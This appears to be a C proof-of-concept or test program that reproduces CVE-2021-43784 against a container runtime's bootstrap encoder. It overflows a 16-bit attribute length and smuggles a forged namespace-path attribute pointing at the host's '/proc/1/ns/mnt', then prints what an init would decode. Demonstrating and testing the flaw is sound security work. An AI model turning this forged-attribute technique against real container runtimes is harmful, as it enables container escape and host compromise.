/* SPDX-License-Identifier: Apache-2.0 */
/*
 * forge-bootstrap: encode bootstrap data whose id map is longer than the 16 bits of an attribute's
 * length can say, and print what an init would read (CVE-2021-43784).
 *
 * The part of the map behind the overflow looks like attributes. As in the attack it is text, so no
 * byte of the forged headers is zero.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "protocol/bootstrap.h"

#define LENGTH_RANGE 65536 /* of an attribute's length */
#define HEADER_SIZE  4
#define MAP	     "0 1 1  \n" /* what is left of the map; a multiple of 4 bytes, as the next */
#define FORGED_SIZE  (HEADER_SIZE + 1024)
#define FORGED_PATHS "mnt:/proc/1/ns/mnt,"

static void put_header(char *at, size_t length, uint16_t type)
{
	uint16_t header[] = { (uint16_t)length, type };

	memcpy(at, header, sizeof(header));
}

static void show(const struct rti_bootstrap *bootstrap)
{
	struct rti_error err;
	struct rti_bootstrap read;
	size_t size;
	void *bytes;

	if (rti_bootstrap_encode(bootstrap, &bytes, &size, &err) < 0) {
		puts(err.text);
		return;
	}
	if (rti_bootstrap_decode(bytes, size, &read, &err) < 0) {
		puts(err.text);
	} else {
		printf("namespaces to join: %.*s\n", (int)sizeof(FORGED_PATHS) - 1,
		       read.ns_paths ? read.ns_paths : "none");
		rti_bootstrap_done(&read);
	}
	free(bytes);
}

int main(void)
{
	static char map[LENGTH_RANGE + sizeof(MAP) - 1];
	struct rti_bootstrap bootstrap = { .uid_map = map };
	char *forged = map + sizeof(MAP) - 1;

	memset(map, '7', sizeof(map) - 1);
	memcpy(map, MAP, sizeof(MAP) - 1);
	put_header(forged, FORGED_SIZE, RTI_BOOTSTRAP_NS_PATHS);
	memcpy(forged + HEADER_SIZE, FORGED_PATHS, sizeof(FORGED_PATHS) - 1);
	forged += FORGED_SIZE;
	put_header(forged, (size_t)(map + sizeof(map) - forged), RTI_BOOTSTRAP_TIME_OFFSETS);
	show(&bootstrap);
	return 0;
}
